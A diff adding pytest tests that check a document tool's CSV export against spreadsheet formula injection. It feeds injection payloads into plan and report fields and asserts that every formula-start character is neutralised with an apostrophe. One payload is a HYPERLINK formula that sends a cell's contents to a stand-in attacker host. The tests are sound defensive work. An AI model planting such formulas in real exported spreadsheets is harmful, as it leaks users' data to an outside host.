@@ -176,3 +176,46 @@ def test_a_source_address_is_quoted_in_the_header(tmp_path: Path) -> None:
     assert main(["import", str(page), "-o", str(out), "--source", source]) == 0
     report = peeldocs.load_report(out)
     assert report.source_url == source and report.published is None
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_no_formula_reaches_a_csv_cell(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    import csv
+    import io
+
+    import yaml
+
+    plan = yaml.safe_load((Path(__file__).resolve().parent.parent / "examples" /
+                           "norfolk-2018-action-plan.yaml").read_text(encoding="utf-8"))
+    for item, formula in zip(plan["items"], FORMULAS, strict=False):  # from the user's plan
+        item["owner"], item["lead"] = formula, formula
+        for update in item.get("updates", []):
+            update["text"] = formula
+    data = yaml.safe_load(DATA.read_text(encoding="utf-8"))
+    for question in data["questions"]:  # and from the report: a finding's own text
+        for finding in question.get("areas_for_improvement", []):
+            finding["text"] = FORMULAS[0]
+    report = tmp_path / "norfolk.yaml"
+    report.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    plan["report"] = str(report)
+    plan_path = tmp_path / "plan.yaml"
+    plan_path.write_text(yaml.safe_dump(plan, allow_unicode=True), encoding="utf-8")
+    code = main(["actions", "status", str(plan_path), "--report", str(report), "--as-of",
+                 "2019-10-15", "--published", "2019-05-02", "--format", "csv"])
+    out, err = capsys.readouterr()
+    assert code == 0, err
+    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
+    assert sum("HYPERLINK" in c for c in cells) >= 3  # the text is kept, as text
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_every_formula_start_is_neutralised(value: str) -> None:
+    from peeldocs.textclean import spreadsheet_cell
+
+    assert spreadsheet_cell(value) == "'" + value
+    assert spreadsheet_cell("Plain text") == "Plain text" and spreadsheet_cell(-3) == -3
